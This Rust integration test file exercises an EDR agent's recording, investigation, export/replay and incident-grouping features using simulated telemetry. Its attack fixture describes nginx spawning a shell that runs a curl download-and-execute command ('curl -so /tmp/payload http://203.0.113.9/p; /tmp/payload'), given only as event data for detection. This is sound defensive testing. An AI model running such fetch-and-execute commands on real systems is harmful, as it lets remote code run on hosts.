//! The agent's always-on record, end to end: every event stored, the
//! investigation commands answering on what the agent recorded, export feeding
//! replay, and ids continuing across a restart.

mod common;
use common::agent::*;
use std::process::Command;

fn proc_line(pid: u32, entity: &str, exe: &str, args: &[&str], ppid: u32, parent_entity: &str, parent_exe: &str) -> String {
    serde_json::json!({
        "event": {"category": ["process"], "type": ["start"]},
        "process": {"pid": pid, "entity_id": entity, "executable": exe, "args": args,
                    "parent": {"pid": ppid, "entity_id": parent_entity, "executable": parent_exe}},
    })
    .to_string()
        + "\n"
}

/// nginx -> sh -> (curl writes /tmp/payload, connects out and closes; /tmp/payload runs),
/// plus an unrelated `ls` under another shell.
fn attack() -> String {
    let mut s = String::new();
    s += &proc_line(100, "00000000000000a1", "/usr/sbin/nginx", &["nginx"], 1, "0000000000000001", "/usr/lib/systemd/systemd");
    s += &proc_line(
        200,
        "00000000000000b2",
        "/usr/bin/dash",
        &["sh", "-c", "curl -so /tmp/payload http://203.0.113.9/p; /tmp/payload"],
        100,
        "00000000000000a1",
        "/usr/sbin/nginx",
    );
    s += &proc_line(
        300,
        "00000000000000c3",
        "/usr/bin/curl",
        &["curl", "-so", "/tmp/payload", "http://203.0.113.9/p"],
        200,
        "00000000000000b2",
        "/usr/bin/dash",
    );
    s += &(serde_json::json!({"event": {"category": ["file"], "action": "create"}, "file": {"path": "/tmp/payload"}, "process": {"pid": 300, "entity_id": "00000000000000c3", "executable": "/usr/bin/curl"}}).to_string() + "\n");
    s += &(serde_json::json!({"event": {"category": ["network"], "action": "connection_attempted"}, "network": {"transport": "tcp"}, "source": {"ip": "10.0.0.5", "port": 40000}, "destination": {"ip": "203.0.113.9", "port": 80}, "process": {"pid": 300, "entity_id": "00000000000000c3", "executable": "/usr/bin/curl"}}).to_string() + "\n");
    s += &(serde_json::json!({"event": {"category": ["network"], "type": ["end"], "action": "connection_closed"}, "network": {"transport": "tcp"}, "source": {"ip": "10.0.0.5", "port": 40000, "bytes": 75}, "destination": {"ip": "203.0.113.9", "port": 80, "bytes": 1460}, "process": {"pid": 300, "entity_id": "00000000000000c3", "executable": "/usr/bin/curl"}}).to_string() + "\n");
    s += &proc_line(400, "00000000000000d4", "/tmp/payload", &["/tmp/payload"], 200, "00000000000000b2", "/usr/bin/dash");
    s += &proc_line(900, "00000000000000f9", "/usr/bin/ls", &["ls", "-la"], 800, "00000000000000f8", "/usr/bin/bash");
    s
}

fn edr(args: &[&str]) -> String {
    let out = Command::new(env!("CARGO_BIN_EXE_edr")).args(args).output().unwrap();
    assert!(out.status.success(), "edr {args:?}: {}", String::from_utf8_lossy(&out.stderr));
    String::from_utf8(out.stdout).unwrap()
}

fn json_rows(out: &str) -> Vec<serde_json::Value> {
    out.lines().map(|l| serde_json::from_str(l).unwrap()).collect()
}

#[test]
fn record_investigate_export_and_restart() {
    let dir = tempfile::tempdir().unwrap();
    let config = "[collect]\nsource = \"stdin\"\n[output]\nstdout = false\n";
    let mut agent = Agent::start(dir.path(), config);
    agent.send(&attack());
    agent.wait_for("the two alerts", std::time::Duration::from_secs(30), |a| a.alerts().len() >= 2);
    agent.stop();
    let d = dir.path().join("data");
    let d = d.to_str().unwrap();

    // Every event is in the record.
    let counts = json_rows(&edr(&[
        "query",
        "--data-dir",
        d,
        "--json",
        "SELECT (SELECT count(*) FROM process) AS p, (SELECT count(*) FROM file) AS f, (SELECT count(*) FROM network) AS n",
    ]));
    assert_eq!((counts[0]["p"].as_u64(), counts[0]["f"].as_u64(), counts[0]["n"].as_u64()), (Some(5), Some(1), Some(2)));
    let net =
        json_rows(&edr(&["query", "--data-dir", d, "--json", "SELECT action, local_port, remote_port, bytes_sent, bytes_received FROM network ORDER BY id"]));
    assert_eq!(net[1], serde_json::json!({"action": "close", "local_port": 40000, "remote_port": 80, "bytes_sent": 75, "bytes_received": 1460}));
    assert_eq!((net[0]["action"].as_str(), net[0]["bytes_sent"].is_null()), (Some("connect"), true));

    // The storyline of the lineage alert (nginx spawned sh): its ancestors,
    // descendants and their activity, and nothing unrelated.
    let alerts = json_rows(&edr(&["query", "--data-dir", d, "--json", "SELECT id, rule_id FROM alert ORDER BY id"]));
    let lineage = alerts.iter().find(|a| a["rule_id"] == "edr.lineage.service-spawned-shell").expect("lineage alert recorded");
    let story: serde_json::Value = serde_json::from_str(&edr(&["storyline", &lineage["id"].to_string(), "--data-dir", d, "--json"])).unwrap();
    let story_text = story.to_string();
    for pid in ["\"pid\":100", "\"pid\":300", "\"pid\":400", "/tmp/payload", "203.0.113.9"] {
        assert!(story_text.contains(pid), "the storyline lacks {pid}: {story_text}");
    }
    assert!(!story_text.contains("\"pid\":900"), "an unrelated process is in the storyline");
    let human = edr(&["storyline", &lineage["id"].to_string(), "--data-dir", d]);
    assert!(human.contains("Descendant") && human.contains("/usr/bin/curl"), "{human}");
    assert!(human.contains("close 10.0.0.5:40000 -> 203.0.113.9:80 (tcp) sent 75 received 1460"), "the storyline shows the close with its bytes: {human}");

    // Search, timeline.
    let found = edr(&["search", "HTTP://203.0.113.9", "--data-dir", d]);
    assert_eq!(found.lines().count(), 2, "{found}");
    let tl = edr(&["timeline", "--path", "/tmp/payload", "--data-dir", d]);
    assert!(tl.contains("create /tmp/payload"), "{tl}");

    // Export is what replay reads: the same detections fire again.
    let export = dir.path().join("export.jsonl");
    let out = Command::new(env!("CARGO_BIN_EXE_edr")).args(["export", "--data-dir", d, "-o", export.to_str().unwrap()]).output().unwrap();
    assert!(out.status.success());
    let replayed = Command::new(env!("CARGO_BIN_EXE_edr")).args(["replay", export.to_str().unwrap()]).env("EDR_LOG", "warn").output().unwrap();
    let mut rules: Vec<String> = json_rows(&String::from_utf8_lossy(&replayed.stdout)).iter().map(|a| a["rule"]["id"].as_str().unwrap().to_string()).collect();
    rules.sort();
    let mut recorded: Vec<String> = alerts.iter().map(|a| a["rule_id"].as_str().unwrap().to_string()).collect();
    recorded.sort();
    assert_eq!(rules, recorded, "retro-hunting over the export finds what the agent found");

    // A restart: ids continue, nothing is numbered twice.
    let mut agent = agent_restart(dir.path(), config);
    agent.send(&proc_line(1000, "00000000000003e8", "/tmp/again", &["/tmp/again"], 1, "0000000000000001", "/usr/lib/systemd/systemd"));
    agent.wait_for("the alert after the restart", std::time::Duration::from_secs(30), |a| a.alerts().len() >= 3);
    agent.stop();
    let ids = json_rows(&edr(&["query", "--data-dir", d, "--json", "SELECT count(*) AS n, count(DISTINCT id) AS distinct_ids, max(id) AS max FROM process"]));
    assert_eq!(ids[0]["n"], ids[0]["distinct_ids"]);
    assert_eq!(ids[0]["n"].as_u64(), Some(6));
    let alert_ids = json_rows(&edr(&["query", "--data-dir", d, "--json", "SELECT count(*) AS n, count(DISTINCT id) AS distinct_ids FROM alert"]));
    assert_eq!(alert_ids[0]["n"], alert_ids[0]["distinct_ids"]);
}

fn agent_restart(dir: &std::path::Path, config: &str) -> Agent {
    Agent::start(dir, config)
}

fn file_line(action: &str, path: &str, old: Option<&str>, pid: u32, entity: &str, exe: &str) -> String {
    let mut line = serde_json::json!({"event": {"category": ["file"], "action": action}, "file": {"path": path}, "process": {"pid": pid, "entity_id": entity, "executable": exe}});
    if let Some(old) = old {
        line["edr"] = serde_json::json!({"file": {"original_path": old}});
    }
    line.to_string() + "\n"
}

/// `sudo useradd -m eve` from an ssh session, as the collectors report it:
/// the exec, the account files replaced (each written twice, as useradd
/// does: the user, then the group), the home directory's skeleton, and the
/// cache flush it runs. Plus, in another session, nginx spawning a shell.
fn useradd() -> String {
    let (ua, ua_exe) = ("0000000000000e07", "/usr/sbin/useradd");
    let mut s = String::new();
    s += &proc_line(500, "0000000000000e05", "/usr/bin/bash", &["-bash"], 400, "0000000000000e04", "/usr/sbin/sshd");
    s += &proc_line(600, "0000000000000e06", "/usr/bin/sudo", &["sudo", "useradd", "-m", "eve"], 500, "0000000000000e05", "/usr/bin/bash");
    s += &proc_line(700, ua, ua_exe, &["useradd", "-m", "eve"], 600, "0000000000000e06", "/usr/bin/sudo");
    for round in 0..2 {
        for f in ["/etc/passwd", "/etc/shadow", "/etc/group", "/etc/gshadow"] {
            s += &file_line("rename", f, Some(&format!("{f}+{round}")), 700, ua, ua_exe);
        }
    }
    for rc in [".bashrc", ".profile", ".bash_logout"] {
        s += &file_line("creation", &format!("/home/eve/{rc}"), None, 700, ua, ua_exe);
    }
    s += &proc_line(800, "0000000000000e08", "/usr/sbin/nscd", &["nscd", "-i", "passwd"], 700, ua, ua_exe);
    s += &proc_line(100, "00000000000000a1", "/usr/sbin/nginx", &["nginx"], 1, "0000000000000001", "/usr/lib/systemd/systemd");
    s += &proc_line(210, "00000000000000b3", "/usr/bin/dash", &["sh", "-c", "id"], 100, "00000000000000a1", "/usr/sbin/nginx");
    s
}

#[test]
fn a_useradd_is_one_incident_and_repeats_are_counted_not_resent() {
    let dir = tempfile::tempdir().unwrap();
    let config = "[collect]\nsource = \"stdin\"\n[output]\nstdout = false\n";
    let mut agent = Agent::start(dir.path(), config);
    agent.send(&useradd());
    agent.wait_for("the account and lineage alerts", std::time::Duration::from_secs(30), |a| {
        let rules: Vec<String> = a.alerts().iter().filter_map(|x| x["rule"]["id"].as_str().map(String::from)).collect();
        rules.iter().any(|r| r == "edr.lineage.service-spawned-shell") && rules.iter().any(|r| r.contains("account-files"))
    });
    agent.stop();
    let d = dir.path().join("data");
    let sent = read_jsonl(&d.join("alerts.jsonl"));
    let d = d.to_str().unwrap();

    // The record keeps every alert; each names its incident.
    let recorded = json_rows(&edr(&["query", "--data-dir", d, "--json", "SELECT id, rule_id, pid, incident_id FROM alert ORDER BY id"]));
    let of_useradd: Vec<&serde_json::Value> = recorded.iter().filter(|a| a["rule_id"] != "edr.lineage.service-spawned-shell").collect();
    assert!(of_useradd.len() >= 9, "useradd's alerts before grouping: {recorded:?}");
    let incident = of_useradd[0]["incident_id"].as_u64().expect("alerts carry their incident");
    assert!(of_useradd.iter().all(|a| a["incident_id"].as_u64() == Some(incident)), "one useradd, one incident: {recorded:?}");
    let nginx = recorded.iter().find(|a| a["rule_id"] == "edr.lineage.service-spawned-shell").unwrap();
    assert_ne!(nginx["incident_id"].as_u64(), Some(incident), "another process tree, another incident");

    // Outputs got each (rule, process) once, with the incident's fields.
    let sent_useradd: Vec<&serde_json::Value> = sent.iter().filter(|a| a["edr"]["incident"]["id"].as_str() == Some(incident.to_string().as_str())).collect();
    let mut pairs: Vec<(String, String)> = of_useradd.iter().map(|a| (a["rule_id"].to_string(), a["pid"].to_string())).collect();
    pairs.sort();
    pairs.dedup();
    assert_eq!(sent_useradd.len(), pairs.len(), "repeats are not re-sent: {sent_useradd:#?}");
    assert!(sent_useradd.len() < of_useradd.len());
    let last = sent_useradd.last().unwrap();
    assert!(last["edr"]["incident"]["alert_count"].as_u64().unwrap() >= sent_useradd.len() as u64, "{last}");
    assert!(last["edr"]["incident"]["suppressed"].is_u64(), "{last}");

    // `edr incidents`: two, the useradd one with every alert and its repeats counted.
    let listed = json_rows(&edr(&["incidents", "--data-dir", d, "--json"]));
    assert_eq!(listed.len(), 2, "{listed:?}");
    let i = listed.iter().find(|i| i["id"].as_u64() == Some(incident)).unwrap();
    assert_eq!(i["alert_count"].as_u64(), Some(of_useradd.len() as u64), "{i}");
    assert_eq!(i["suppressed"].as_u64(), Some((of_useradd.len() - pairs.len()) as u64), "{i}");
    assert_eq!(i["root_exe"], "/usr/bin/sudo", "{i}");
    assert!(i["score"].as_u64().unwrap() > 47 && i["summary"].as_str().unwrap().contains("/usr/bin/sudo"), "{i}");
    let table = edr(&["incidents", "--data-dir", d]);
    assert!(table.lines().next().unwrap().starts_with("id") && table.contains("(2 rows)") && table.contains("/usr/bin/sudo (600)"), "{table}");
    let one = edr(&["incidents", &incident.to_string(), "--data-dir", d]);
    assert_eq!(one.lines().filter(|l| l.contains("account-files")).count(), 8, "{one}");
    let missing = Command::new(env!("CARGO_BIN_EXE_edr")).args(["incidents", "999999", "--data-dir", d]).output().unwrap();
    assert!(!missing.status.success() && String::from_utf8_lossy(&missing.stderr).contains("no incident 999999"));
}
